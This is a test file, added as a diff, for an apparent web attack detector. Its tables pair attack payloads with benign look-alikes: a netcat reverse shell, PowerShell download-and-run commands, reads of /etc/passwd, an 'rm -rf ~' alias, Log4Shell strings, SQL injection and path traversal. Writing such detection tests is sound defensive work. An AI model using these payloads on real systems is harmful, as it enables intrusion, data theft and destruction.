@@ -1,0 +1,184 @@
+// Table-driven tests per attack class of issue #14: for each class, attacks
+// that must be blocked at `standard` (with the rule id expected in the
+// decision log) and near-miss benign values that must pass. Values are sent
+// in the places the issue names: query, form field, JSON string (plain and
+// \u-escaped), XML attribute, multipart field or filename.
+import { describe, expect, it } from "vitest";
+import { baselineConfig, compileDetector, type DetectionRequest } from "./index.js";
+import { documentProse } from "./document.js";
+
+const detector = compileDetector(baselineConfig("standard"));
+const strict = compileDetector(baselineConfig("strict"));
+
+type Where = "query" | "form" | "json" | "json-u" | "xml-attr" | "multipart" | "filename";
+
+function request(value: string, where: Where): DetectionRequest {
+  const headers: [string, string][] = [["Host", "app.example"], ["User-Agent", "Mozilla/5.0"]];
+  switch (where) {
+    case "query":
+      return { method: "GET", path: "/search", query: `q=${encodeURIComponent(value)}`, headers };
+    case "form":
+      return { method: "POST", path: "/f", query: "", headers, contentType: "application/x-www-form-urlencoded", body: `name=a&comment=${encodeURIComponent(value)}` };
+    case "json":
+      return { method: "POST", path: "/api", query: "", headers, contentType: "application/json", body: JSON.stringify({ ticket: { body: value } }) };
+    case "json-u":
+      return { method: "POST", path: "/api", query: "", headers, contentType: "application/json", body: `{"v":${JSON.stringify(value).replace(/[$<>'(){}:/]/g, (c) => `\\u${c.charCodeAt(0).toString(16).padStart(4, "0")}`)}}` };
+    case "xml-attr":
+      return { method: "POST", path: "/soap", query: "", headers, contentType: "application/xml", body: `<a><b v="${value.replace(/&/g, "&amp;").replace(/</g, "&lt;").replace(/"/g, "&quot;")}">1</b></a>` };
+    case "multipart":
+      return { method: "POST", path: "/up", query: "", headers, contentType: "multipart/form-data; boundary=XX", body: `--XX\r\nContent-Disposition: form-data; name="f"\r\n\r\n${value}\r\n--XX--\r\n` };
+    case "filename":
+      return { method: "POST", path: "/up", query: "", headers, contentType: "multipart/form-data; boundary=XX", body: `--XX\r\nContent-Disposition: form-data; name="f"; filename="${value}"\r\n\r\nhi\r\n--XX--\r\n` };
+  }
+}
+
+const PLACES: Where[] = ["query", "form", "json", "json-u", "xml-attr", "multipart"];
+
+interface ClassTable {
+  /** [value, a rule id expected among the matches] */
+  attacks: [string, string][];
+  benign: string[];
+}
+
+const CLASSES: Record<string, ClassTable> = {
+  "PHP code injection": {
+    attacks: [
+      ["<?php\tsystem('id');", "php.open-tag"],
+      ["<? echo `whoami`; ?>", "php.short-open-tag"],
+      ["<?\n@include 'http://x/s.txt';?>", "php.short-open-tag"],
+      ["[php]echo shell_exec('id');[/php]", "php.short-open-tag"],
+      ["$f='sys'.'tem';$f('id');", "php.variable-function"],
+      ["SyStEm\n('cat /etc/passwd');", "php.function-call"],
+    ],
+    benign: ["<?xml version=\"1.0\"?><note>hi</note>", "[php] is my favourite tag", "The system (as designed) works", "Price: $5 (incl. tax)"],
+  },
+  "Windows cmd / PowerShell": {
+    attacks: [
+      ["for /f \"tokens=*\" %i in ('whoami') do @echo %i", "rce.windows-for-loop"],
+      ["%comspec:~-16,1%md /c dir", "rce.windows-env"],
+      ["IEX (New-Object Net.WebClient).DownloadString('http://x/p')", "rce.powershell"],
+      ["iwr http://198.51.100.2/a.ps1 -OutFile a.ps1", "rce.powershell"],
+      ["; iwmi -class win32_process -name create -argumentlist calc.exe", "rce.powershell"],
+      ["Invoke-WebRequest -Uri http://x/a -OutFile a.exe", "rce.powershell"],
+      ["pwsh -EncodedCommand SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQA", "rce.shell-invocation"],
+    ],
+    benign: ["for five days in (late) May we do nothing", "Invoke-WebRequest is the cmdlet we document in chapter 3", "Get-Content is slow on big files", "I got 50% off (100% happy)"],
+  },
+  "Unix shell": {
+    attacks: [
+      ["abc\ncat /etc/passwd", "rce.command-injection"],
+      ["x; nohup nc 198.51.100.7 4444 -e /bin/sh &", "rce.command-injection"],
+      ["a=i;b=d;$a$b", "rce.variable-command"],
+      ["; cmd=$'\\151\\144'; $cmd", "rce.ansi-c-quoting"],
+      ["; who$()ami", "rce.command-injection"],
+      ["; $0 -c id", "rce.shell-invocation"],
+      ["; alias ls='rm -rf ~'", "rce.alias-definition"],
+      ["&& docker run -v /:/mnt alpine chroot /mnt sh", "rce.command-injection"],
+      ["| stdbuf -o0 wget http://x/a -O /tmp/a", "rce.command-injection"],
+    ],
+    benign: ["Tom & Jerry; time for tea", "see you at 5 | bring snacks", "cost: $a and $b", "alias: Bobby", "We use Python; docker for deploys", "My alias = Bob"],
+  },
+  "JavaScript / Ruby / templates": {
+    attacks: [
+      ["this['constructor']['constructor']('return process')()", "generic.function-constructor"],
+      ["_$$ND_FUNC$$_function(){require('child_process').exec('id')}()", "generic.serialized-function"],
+      ["Process.spawn('id')", "generic.ruby-injection"],
+      ["Object.const_get('Kernel').system('id')", "generic.ruby-injection"],
+      ["%x(id)", "generic.ruby-injection"],
+      ["{{config.__class__.__init__.__globals__['os'].popen('id').read()}}", "generic.template-injection"],
+    ],
+    benign: ["The constructor of this house (1920) was my grandfather", "Hello {{name}}, your order is ready", "The process spawned 3 new ideas", "Use 10%x zoom (default)"],
+  },
+  Java: {
+    attacks: [
+      ["java.io.FileInputStream", "java.dangerous-class-name"],
+      ["javax.script.ScriptEngineManager", "java.dangerous-class-name"],
+      ["<java.util.PriorityQueue serialization=\"custom\">", "java.xml-object-graph"],
+    ],
+    benign: ["java.lang.NullPointerException at com.example.Order.submit(Order.java:42)", "I love java.io tutorials", "java.util.List is an interface"],
+  },
+  "Path traversal / local files": {
+    attacks: [
+      ["/proc/self/environ", "lfi.sensitive-file"],
+      ["/var/www/html/storage/logs/laravel.log", "lfi.sensitive-file"],
+      ["C:\\Windows\\System32\\drivers\\etc\\hosts", "lfi.sensitive-file"],
+      ["..\u2216..\u2216etc/passwd", "lfi.path-traversal"],
+    ],
+    benign: ["/docs/getting-started", "see the logs tab in the dashboard", "C: drive is full (again)", "1.2.3 .. 1.2.9"],
+  },
+  SQL: {
+    attacks: [
+      ["1' ORDER BY 5-- -", "sqli.order-by-probe"],
+      ["1)/**/GROUP/**/BY/**/1,2,3#", "sqli.order-by-probe"],
+      ["bob');--", "sqli.quote-terminator"],
+      ["x\");--", "sqli.quote-terminator"],
+      ["'||(SELECT version())||'", "sqli.pipe-concat"],
+      ["'||pg_sleep(5)||'", "sqli.pipe-concat"],
+    ],
+    benign: ["sort by 5 stars", "Order by phone: 1 (800) 555-0199", "ship it || fix it", "Rock 'n' Roll -- live", "O'Reilly's \"Learning SQL\" - 3rd Edition"],
+  },
+};
+
+describe.each(Object.entries(CLASSES))("%s", (_name, table) => {
+  it.each(table.attacks)("blocks %j (%s) in every place", (value, ruleId) => {
+    for (const where of PLACES) {
+      const r = detector.inspect(request(value, where));
+      expect(r.blocked, `${where}: ${JSON.stringify(r.matches)}`).toBe(true);
+    }
+    // the named rule is the one that reports the plain query placement
+    expect(detector.inspect(request(value, "query")).matches.map((m) => m.ruleId)).toContain(ruleId);
+  });
+  it.each(table.benign.map((b) => [b]))("passes %j in every place", (value) => {
+    for (const where of PLACES) {
+      const r = detector.inspect(request(value, where));
+      expect(r.blocked, `${where}: ${JSON.stringify(r.matches)}`).toBe(false);
+    }
+  });
+});
+
+describe("placement", () => {
+  it("Log4Shell in a JSON string written with \\u escapes and in an XML attribute", () => {
+    const body = '{"ua":"\\u0024\\u007bjndi:ldap://x/a\\u007d"}';
+    expect(detector.inspect({ method: "POST", path: "/", query: "", headers: [], contentType: "application/json", body }).matches.map((m) => m.ruleId)).toContain("java.jndi-lookup");
+    expect(detector.inspect(request("${${lower:j}ndi:ldap://x/a}", "xml-attr")).blocked).toBe(true);
+  });
+  it("HTML-entity escapes in a JSON string", () => {
+    expect(detector.inspect(request("&#36;&#123;jndi:ldap://x/a&#125;", "json")).blocked).toBe(true);
+  });
+  it("traversal in multipart file names", () => {
+    for (const name of ["../../etc/passwd", "..\\..\\windows\\win.ini", "....//....//etc/passwd"]) expect(detector.inspect(request(name, "filename")).blocked, name).toBe(true);
+    expect(detector.inspect(request("notes (final) - v2.txt", "filename")).blocked).toBe(false);
+  });
+  it("overlong UTF-8 and %u encodings inside JSON strings", () => {
+    for (const v of ["%c0%ae%c0%ae/%c0%ae%c0%ae/etc/passwd", "%u002e%u002e%u2215etc%u2215passwd"]) expect(detector.inspect(request(v, "json")).blocked, v).toBe(true);
+  });
+});
+
+describe("levels", () => {
+  it("a bare java.* class name outside the dangerous packages is a strict-only keyword", () => {
+    expect(detector.inspect(request("java.util.HashMap", "query")).blocked).toBe(false);
+    expect(strict.inspect(request("java.util.HashMap", "query")).matches.map((m) => m.ruleId)).toContain("java.class-name");
+  });
+});
+
+describe("markdown documents in user content", () => {
+  const docs = [
+    "Here's the query:\n\n```sql\nSELECT u.email, count(*) FROM orders o JOIN users u ON u.id = o.user_id GROUP BY u.email HAVING count(*) > 5;\n```\nIt takes 3s.",
+    "Our Dockerfile:\n```\nFROM python:3.12-slim\nRUN apt-get update && apt-get install -y curl && rm -rf /var/lib/apt/lists/*\n```",
+    "Nit: ```bash\nnpm ci && npm test\n```",
+    "To reset: `rm -rf node_modules && npm install`. Then `npm run dev`.",
+  ];
+  it.each(docs.map((d) => [d]))("passes %j as a JSON comment", (doc) => {
+    const r = detector.inspect(request(doc, "json"));
+    expect(r.blocked, JSON.stringify(r.matches)).toBe(false);
+  });
+  it("still blocks basic signatures inside code blocks and every rule in the prose", () => {
+    expect(detector.inspect(request("see:\n```\n' UNION SELECT password FROM users--\n```", "json")).blocked).toBe(true);
+    expect(detector.inspect(request("```sql\nselect 1\n```\nand then; cat /etc/passwd", "json")).blocked).toBe(true);
+  });
+  it("a lone backtick or an unclosed fence is not a document", () => {
+    expect(documentProse("x`id`")).toBeNull();
+    expect(documentProse("```\n; id")).toBeNull();
+    expect(documentProse("hello `id` there and more words")).toBe("hello   there and more words");
+  });
+});
